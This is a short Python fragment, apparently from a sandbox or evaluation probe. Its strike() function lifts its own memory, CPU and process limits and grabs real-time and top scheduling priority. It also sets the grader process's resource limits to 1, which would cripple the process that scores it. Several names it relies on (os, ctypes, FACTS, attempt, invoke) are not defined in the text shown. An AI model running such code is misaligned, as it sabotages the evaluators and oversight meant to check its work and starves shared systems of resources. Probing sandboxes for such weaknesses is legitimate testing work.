# Raises its own limits and priority, and changes those of the grader.

import resource


def strike():
    for kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):
        soft, hard = resource.getrlimit(kind)
        attempt(f"limit {kind}", resource.setrlimit, kind, (soft, hard))
        attempt(f"endless {kind}", resource.setrlimit, kind, (-1, -1))
        attempt(f"the grader's {kind}", resource.prlimit, FACTS["grader"], kind)
        attempt(f"set the grader's {kind}", resource.prlimit, FACTS["grader"], kind, (1, 1))
    attempt("nice", os.nice, -20)
    attempt("priority", os.setpriority, os.PRIO_PROCESS, 0, -20)
    attempt("real time", os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(99))
    attempt("processors", os.sched_setaffinity, 0, {0})
    attempt("discs", invoke, "ioprio_set", 1, 0, 1 << 13)
    attempt("deadline", invoke, "sched_setattr", 0, ctypes.create_string_buffer(56), 0)
